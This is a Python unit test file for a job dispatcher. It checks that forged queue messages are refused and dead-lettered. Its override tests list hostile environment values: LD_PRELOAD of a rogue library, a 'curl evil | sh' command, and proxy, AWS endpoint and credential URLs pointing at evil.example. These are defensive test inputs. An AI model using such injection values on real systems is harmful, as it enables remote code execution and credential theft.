"""The dispatch queue's sender, played as an attacker: it may choose which run and when, never what runs.

Every attack goes through the Dispatcher's Lambda entry (``handle_event``) as an SQS batch, the way a message on
the dispatch queue arrives. A refused request launches nothing, claims nothing, and is dead-lettered with a
reason that says why — nothing is lost.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from taskrunner.handlers import dispatcher
from taskrunner.local.invoke import LambdaContext
from tests.unit.fakes import (
    ACCOUNT,
    DATA_BUCKET,
    REGION,
    T0,
    DispatcherWorld,
    FakeClock,
    FakeRegistry,
    dispatcher_handler_service,
    eventbridge_event,
    job_spec,
    s3_event,
    sqs_record,
)

CONTEXT = LambdaContext(function_name="security")
CONTAINERS_PATTERN = {"source": ["com.example.ci"], "detail": {"containers": {"exitCode": [{"anything-but": 0}]}}}


@pytest.fixture
def world() -> DispatcherWorld:
    registry = FakeRegistry(
        job_spec(name="nightly-report", allowed_env_overrides="REPORT_DATE", environment={"REPORT_FORMAT": "csv"}),
        job_spec(name="thumbnails", s3_prefix="uploads/images/", s3_suffix=".jpg"),
        job_spec(name="order-audit"),
        job_spec(name="ci-failures", event_pattern=CONTAINERS_PATTERN),
        job_spec(name="ad-hoc"),  # no trigger of its own: manual runs only
    )
    return dispatcher_handler_service(registry, FakeClock(T0 + 60))


def deliver(world: DispatcherWorld, *bodies: dict[str, Any]) -> dict[str, Any]:
    event = {"Records": [sqs_record(json.dumps(body), i) for i, body in enumerate(bodies)]}
    response: dict[str, Any] = dispatcher.handle_event(world.service, event, CONTEXT)
    return response


def refused(world: DispatcherWorld, body: dict[str, Any], why: str) -> None:
    """The request launched nothing, created no run, and sits in the DLQ with a reason naming ``why``."""
    response = deliver(world, body)
    assert response["batchItemFailures"] == [], "refused, not retried"
    assert world.cluster.requests == [], "nothing launched"
    assert world.store.items == {}, "nothing claimed"
    [(dead_body, reason)] = world.messages.dead
    assert json.loads(dead_body) == body, "the request is kept as it came"
    assert why in reason, reason


def manual(job: str, **env: str) -> dict[str, Any]:
    return {"job": job, "trigger": "manual", "request_id": "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "env": env}


def upload(job: str = "thumbnails", **event: Any) -> dict[str, Any]:
    return {"job": job, "trigger": "s3", "event": s3_event(**event)}


# --------------------------------------------------------------------------- code execution through overrides

CODE_EXECUTION = [
    {"LD_PRELOAD": "/tmp/evil.so"},
    {"PYTHONWARNINGS": "ignore::antigravity.x", "BROWSER": "sh -c 'curl evil | sh' #%s"},
    {"PYTHONSTARTUP": "/tmp/x.py"},
    {"NODE_OPTIONS": "--require /tmp/x.js"},
    {"JAVA_TOOL_OPTIONS": "-javaagent:/tmp/x.jar"},
    {"BASH_ENV": "/tmp/x.sh"},
    {"PATH": "/tmp:/usr/bin"},
    {"AWS_ENDPOINT_URL": "https://evil.example"},
    {"AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://evil.example"},
    {"HTTPS_PROXY": "http://evil.example:8080"},
    {"https_proxy": "http://evil.example:8080"},
    {"REQUESTS_CA_BUNDLE": "/tmp/evil.pem"},
    {"SSL_CERT_FILE": "/tmp/evil.pem"},
    {"ECS_CONTAINER_METADATA_URI_V4": "http://evil.example"},
    {"TASKRUNNER_QUEUE_URL": "https://sqs.us-east-1.amazonaws.com/210987654321/theirs"},
]


@pytest.mark.parametrize("env", CODE_EXECUTION, ids="+".join)
def test_a_manual_run_cannot_set_loader_interpreter_proxy_or_aws_variables(world: DispatcherWorld, env) -> None:  # type: ignore[no-untyped-def]
    refused(world, manual("nightly-report", **env), "may never be overridden")


def test_a_manual_run_cannot_shadow_the_jobs_own_environment(world: DispatcherWorld) -> None:
    refused(world, manual("nightly-report", REPORT_FORMAT="sh"), "set by the job itself")


def test_a_manual_run_sets_only_the_names_its_job_allows(world: DispatcherWorld) -> None:
    refused(world, manual("nightly-report", DEBUG="1"), "not in the job's AllowedEnvOverrides (REPORT_DATE)")


def test_an_allowed_override_reaches_the_task(world: DispatcherWorld) -> None:
    deliver(world, manual("nightly-report", REPORT_DATE="2026-11-25"))

    [request] = world.cluster.requests
    env = {e["name"]: e["value"] for e in request["overrides"]["containerOverrides"][0]["environment"]}
    assert env["REPORT_DATE"] == "2026-11-25"
    [run] = world.store.items.values()
    assert run["env_names"] == ["REPORT_DATE"]
    assert "2026-11-25" not in json.dumps(run), "values stay in the task's overrides, out of the run record"


@pytest.mark.parametrize(
    "body",
    [
        upload() | {"env": {"REPORT_DATE": "x"}},
        {"job": "nightly-report", "trigger": "schedule", "scheduled_at": "2026-11-26T05:00:00Z", "env": {"A": "1"}},
        {
            "job": "ci-failures",
            "trigger": "event",
            "event": eventbridge_event(source="com.example.ci"),
            "env": {"A": "1"},
        },
    ],
    ids=["s3", "schedule", "event"],
)
def test_only_manual_runs_carry_overrides(world: DispatcherWorld, body: dict[str, Any]) -> None:
    refused(world, body, "only on manual runs")


# --------------------------------------------------------------------------- uploads that are not the job's


def test_an_upload_to_a_foreign_bucket_runs_nothing(world: DispatcherWorld) -> None:
    refused(world, upload(bucket="attacker-bucket"), "bucket attacker-bucket is not the job's bucket")


@pytest.mark.parametrize("key", ["private/payroll.jpg", "uploads/images/cat.png", "uploads/cat.jpg"])
def test_an_upload_outside_the_jobs_prefix_or_suffix_runs_nothing(world: DispatcherWorld, key: str) -> None:
    refused(world, upload(key=key), "is not under 'uploads/images/'*'.jpg'")


def test_an_upload_event_from_another_account_or_region_runs_nothing(world: DispatcherWorld) -> None:
    foreign = upload()
    foreign["event"] |= {"account": "210987654321"}
    refused(world, foreign, "from account '210987654321'")
    world.messages.dead.clear()
    elsewhere = upload()
    elsewhere["event"] |= {"region": "eu-west-1"}
    refused(world, elsewhere, "from region 'eu-west-1'")


def test_an_s3_request_for_a_job_without_an_s3_trigger_runs_nothing(world: DispatcherWorld) -> None:
    refused(world, upload("ad-hoc"), "has no S3 trigger")


def test_an_s3_request_that_is_not_an_object_created_event_runs_nothing(world: DispatcherWorld) -> None:
    deleted = upload()
    deleted["event"]["detail-type"] = "Object Deleted"
    refused(world, deleted, "runs on 'Object Created'")


# --------------------------------------------------------------------------- events the job's pattern does not match


def test_an_event_its_jobs_pattern_does_not_match_runs_nothing(world: DispatcherWorld) -> None:
    event = eventbridge_event(source="com.example.ci", detail={"containers": [{"exitCode": 0}]})
    refused(world, {"job": "ci-failures", "trigger": "event", "event": event}, "does not match job ci-failures")


def test_an_event_matching_through_an_array_of_objects_runs(world: DispatcherWorld) -> None:
    """EventBridge matches each element of an array of objects: ``exitCode`` 1 in the second container matches."""
    event = eventbridge_event(source="com.example.ci", detail={"containers": [{"exitCode": 0}, {"exitCode": 1}]})
    deliver(world, {"job": "ci-failures", "trigger": "event", "event": event})
    assert len(world.cluster.requests) == 1


def test_an_event_request_for_a_job_without_a_pattern_runs_nothing(world: DispatcherWorld) -> None:
    refused(world, {"job": "ad-hoc", "trigger": "event", "event": eventbridge_event()}, "has no event pattern")


def test_a_matching_event_from_another_account_runs_nothing(world: DispatcherWorld) -> None:
    event = eventbridge_event(source="com.example.ci", detail={"containers": [{"exitCode": 2}]})
    event["account"] = "210987654321"
    refused(world, {"job": "ci-failures", "trigger": "event", "event": event}, "not the stack's")


# --------------------------------------------------------------------------- schedule ticks


def test_a_tick_for_a_job_without_a_schedule_runs_nothing(world: DispatcherWorld) -> None:
    refused(world, {"job": "ad-hoc", "trigger": "schedule", "scheduled_at": "2026-11-26T05:00:00Z"}, "no schedule")


def test_a_tick_from_the_future_runs_nothing(world: DispatcherWorld) -> None:
    """A forged tick for next week would otherwise claim (and so suppress) the real one."""
    tick = {"job": "nightly-report", "trigger": "schedule", "scheduled_at": "2026-12-03T05:00:00Z"}
    refused(world, tick, "in the future")


def test_the_real_tick_runs(world: DispatcherWorld) -> None:
    deliver(world, {"job": "nightly-report", "trigger": "schedule", "scheduled_at": "2026-11-26T05:00:00Z"})
    assert len(world.cluster.requests) == 1


# --------------------------------------------------------------------------- nothing refused is lost


def test_a_refused_request_next_to_a_valid_one_costs_the_valid_one_nothing(world: DispatcherWorld) -> None:
    response = deliver(world, upload(bucket="attacker-bucket"), upload(key="uploads/images/dog.jpg"))

    assert response["batchItemFailures"] == []
    launched_keys = [
        e["value"]
        for r in world.cluster.requests
        for e in r["overrides"]["containerOverrides"][0]["environment"]
        if e["name"] == "TASKRUNNER_S3_KEY"
    ]
    assert launched_keys == ["uploads/images/dog.jpg"]
    assert len(world.messages.dead) == 1


def test_the_stacks_bucket_and_region_are_what_the_requests_are_checked_against() -> None:
    """Sanity of the fixture: the sample upload is from this stack's account, region and bucket."""
    event = s3_event()
    assert (event["account"], event["region"], event["detail"]["bucket"]["name"]) == (ACCOUNT, REGION, DATA_BUCKET)
